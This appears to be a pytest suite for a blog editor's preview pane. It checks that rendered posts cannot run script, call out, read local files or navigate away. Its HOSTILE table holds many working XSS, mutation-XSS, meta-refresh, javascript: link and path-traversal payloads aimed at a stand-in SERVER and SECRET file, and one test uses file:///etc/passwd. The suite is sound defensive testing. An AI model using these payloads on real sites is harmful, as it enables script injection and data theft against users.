"""A post may hold anything: nothing it holds may run, call out, read a file or lead away."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from editor.render.preview import PreviewRenderer
from editor.render.request import Block, Rendering, RenderRequest
from editor.ui.preview import switches
from tests.ui.preview.conftest import PATIENCE

# SERVER is a server that counts who connects, SECRET a picture outside the site. A script that
# runs changes the title of the page.
RAN = "document.title='ran'"
CALL = f"{RAN};fetch('http://SERVER/')"
HOSTILE = {
    "script": f"<script>{CALL}</script>",
    "script from elsewhere": "<script src='http://SERVER/a.js'></script>",
    "module": "<script type='module'>import 'http://SERVER/a.js'</script>",
    "handler": f'<img src="x" onerror="{CALL}"><p onclick="{CALL}" onmouseover="{CALL}">x</p>',
    "handler of a document": f'<body onload="{CALL}" onpageshow="{CALL}">',
    "details": f'<details open ontoggle="{CALL}"><summary>x</summary>y</details>',
    "animation": "<style>@keyframes a{}</style>"
    f'<p style="animation:a 1ms" onanimationend="{CALL}">x</p>',
    "refresh": "<meta http-equiv='refresh' content='0;url=http://SERVER/'>",
    "refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{RAN}">',
    "refresh to a file": "<meta http-equiv='refresh' content='0;url=file://SECRET'>",
    "preconnect": "<link rel='preconnect' href='http://SERVER/'>",
    "prefetch": "<link rel='dns-prefetch' href='//SERVER'><link rel='prefetch' href='http://SERVER/'>"
    "<link rel='prerender' href='http://SERVER/'>",
    "preload": "<link rel='preload' as='image' href='http://SERVER/'>"
    "<link rel='modulepreload' href='http://SERVER/'>",
    "icon": "<link rel='icon' href='http://SERVER/'><link rel='manifest' href='http://SERVER/'>",
    "style sheet": "<link rel='stylesheet' href='http://SERVER/a.css'>",
    "style": "<style>@import 'http://SERVER/a.css'; p{background:url(http://SERVER/b)}"
    "@font-face{font-family:x;src:url(http://SERVER/c)} p{font-family:x}</style><p>x</p>",
    "inline style": "<p style='background:url(http://SERVER/a);border-image:url(//SERVER/b) 1;"
    "list-style:url(http://SERVER/c)'>x</p>",
    "image": "<img src='http://SERVER/a.png'><img src='//SERVER/b.png'>"
    "<img src='\\\\SERVER\\c.png'>",
    "image set": "<img src='/assets/own.png' srcset='http://SERVER/a.png 1x, //SERVER/b.png 2x'>"
    "<picture><source srcset='http://SERVER/c.png'><img></picture>",
    "image in Markdown": "![x](http://SERVER/a.png) ![y][z]\n\n[z]: http://SERVER/b.png",
    "film": "<video poster='http://SERVER/a.png' src='http://SERVER/b.mp4' autoplay></video>"
    "<audio autoplay><source src='http://SERVER/c.mp3'></audio>"
    "<video><track default src='http://SERVER/d.vtt'></video>",
    "frame": "<iframe src='http://SERVER/'></iframe>"
    f'<iframe srcdoc="<script>parent.{RAN}</script><img src=http://SERVER/>"></iframe>',
    "frame of a script": f'<iframe src="javascript:parent.{RAN}"></iframe>',
    "frame set": "<frameset><frame src='http://SERVER/'></frameset>",
    "object": "<object data='http://SERVER/'></object><embed src='http://SERVER/'>"
    "<applet archive='http://SERVER/'></applet>",
    "drawing": f'<svg onload="{CALL}"><script>{CALL}</script>'
    "<image href='http://SERVER/a.png'/><use href='http://SERVER/b.svg#x'/>"
    "<foreignObject><iframe src='http://SERVER/'></iframe></foreignObject></svg>",
    "drawing as a picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='http://SERVER/a.png'/><script>fetch('http://SERVER/')</script></svg>\">",
    "formula": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x"
    f" onerror={RAN}&gt;'></table></mtext></math>",
    "unclosed noscript": f'<noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript>',
    "form": "<form action='http://SERVER/' method='post'><input autofocus name='a'"
    f' onfocus="{CALL}"><button formaction="http://SERVER/">x</button></form>',
    "base": "<base href='http://SERVER/'><img src='a.png'>",
    "ping": "<a href='/x' ping='http://SERVER/'>x</a>",
    "script link": f'<a href="javascript:{RAN}">x</a><a href="java&Tab;script:{RAN}">y</a>'
    f'<a href="data:text/html,<script>{RAN}</script>">z</a>[w](javascript:{RAN})',
    "background": "<table background='http://SERVER/a.png'><tr><td background='http://SERVER/b'>x",
    "template": f"<template><img src=x onerror={RAN}></template>"
    "<div><template shadowrootmode=open>"
    "<img src='http://SERVER/a.png'></template></div>",
    "portal": "<portal src='http://SERVER/'></portal><fencedframe src='http://SERVER/'></fencedframe>",
    "file": "<img src='file://SECRET'><img src='SECRET'><img src='///SECRET'>"
    "<link rel='stylesheet' href='file://SECRET'>",
    "steps out": "<img src='/../secret.png'><img src='/assets/../../secret.png'>"
    "<img src='/..%2fsecret.png'><img src='/assets/..%2f..%2fsecret.png'>"
    "<img src='/%2e%2e/secret.png'><img src='/assets/..%5c..%5csecret.png'>"
    "<img src='/%252e%252e%252fsecret.png'><img src='/assets%00/../../secret.png'>",
    "links out": "<img src='/assets/link.png'><img src='/assets/folder/secret.png'>"
    "<link rel='stylesheet' href='/assets/folder/secret.css'>",
    "another scheme": "<img src='ftp://SERVER/a.png'><img src='qrc:/a.png'><img src='blob:x'>"
    "<img src='filesystem:x'><img src='chrome://gpu/a.png'><img src='view-source:http://SERVER/'>"
    "<img src='sitepreview://other/assets/own.png'><img src='ws://SERVER/'>",
    "Liquid": "{% include_relative ../secret.css %} {{ '<script src=http://SERVER/a.js>' }}",
    "names": "<img name='dateline'><form id='dateline'></form><img id='post' name='post'>",
}


def filled(text, server, secret):
    """Put the addresses of this test into a hostile text."""
    return text.replace("SERVER", server.address).replace("SECRET", str(secret))


def wait_for_all(shown):
    """Wait until pictures that were asked for later than anything hostile have come."""
    for turn in range(3):
        shown.ask(
            f"(i => {{ i.className = 'fence'; i.src = '/assets/own.png?{turn}';"
            " document.body.append(i); return 0; })(new Image())"
        )
        shown.wait_for(
            "[...document.querySelectorAll('.fence')]"
            ".every(i => i.complete && i.naturalWidth === 12)"
        )


def assert_untouched(shown, server, reads_of_secret):
    """Nothing called out, ran, read the secret or led away; the post can still be changed."""
    wait_for_all(shown)
    assert server.count() == 0
    assert reads_of_secret() == 0
    assert shown.ask("document.title") == "Preview"
    assert shown.ask("location.pathname") == "/"
    assert shown.ask("getComputedStyle(document.getElementById('canary')).color") != "rgb(7, 7, 7)"
    shown.show("<p>Calm again</p>")
    assert shown.ask("document.getElementById('post').innerText") == "Calm again"


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_post_does_nothing(kind, shown, server, secret, site, reads_of_secret):
    """Through the whole way, from the text to the page."""
    text = filled(HOSTILE[kind], server, secret)
    body = f"![own](/assets/own.png)\n\n{text}\n"
    request = RenderRequest(1, "post", "Title", body, {"image": f"http://{server.address}/a"})
    rendering = PreviewRenderer().render(request)
    canary = Block("canary", "<p id='canary'>Canary</p>", 0, 0)
    shown.show_rendering(Rendering(1, "post", (canary, *rendering.blocks)))
    shown.wait_for("[...document.querySelectorAll('#post img')].some(i => i.naturalWidth === 12)")
    assert_untouched(shown, server, reads_of_secret)


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_page_alone_withstands_a_hostile_post(kind, shown, server, secret, reads_of_secret):
    """As if the sanitizer had let everything through; the site's own styles still load."""
    shown.show(
        "<p id='canary'>Canary</p>",
        filled(HOSTILE[kind], server, secret),
        "<link rel='stylesheet' href='/assets/site.css'><img class='own' src='/assets/own.png'>",
    )
    shown.wait_for("[...document.querySelectorAll('.own')].every(i => i.naturalWidth === 12)")
    shown.wait_for("getComputedStyle(document.getElementById('canary')).color === 'rgb(1, 2, 3)'")
    assert_untouched(shown, server, reads_of_secret)


@pytest.mark.parametrize(
    "address", ["foo:bar", "ms-settings:x", "file:///etc/passwd", "smb://h/x"]
)
def test_a_click_opens_no_other_program(qtbot, shown, address):
    """A link of any unknown kind is never handed to the desktop by the engine."""
    from tests.ui.preview.test_preview_pane import click  # noqa: PLC0415 - one helper

    shown.show(f"<p><a href='{address}'>A link to click</a></p>")
    told = []
    shown.pane.link_activated.connect(told.append)
    click(shown.pane, "a", shown)
    shown.show("<p>Still here</p>")
    assert shown.ask("location.pathname") == "/"
    assert told in ([], [address])


def test_without_the_fences_a_hostile_post_does_call_out(tmp_path):
    """The control: the same posts in a page as one would first write it reach the server."""
    script = Path(__file__).with_name("unprotected_page.py")
    kinds = {kind: HOSTILE[kind] for kind in ("script", "image", "refresh", "preconnect", "style")}
    # The engine of a test before this one was started with the switches in force.
    done = subprocess.run(
        [sys.executable, str(script), json.dumps(kinds)],
        capture_output=True,
        text=True,
        check=True,
        timeout=PATIENCE / 1000 * len(kinds),
        cwd=tmp_path,
    )
    counts = json.loads(done.stdout.splitlines()[-1])
    assert all(counts[kind] > 0 for kind in kinds), counts


def test_the_switches_that_close_the_network_are_in_force():
    """Without them a preconnect passes every other fence."""
    flags = switches.chromium_switches("")
    assert '"--host-resolver-rules=MAP * ~NOTFOUND"' in flags
    assert "--proxy-server=127.0.0.1:9" in flags
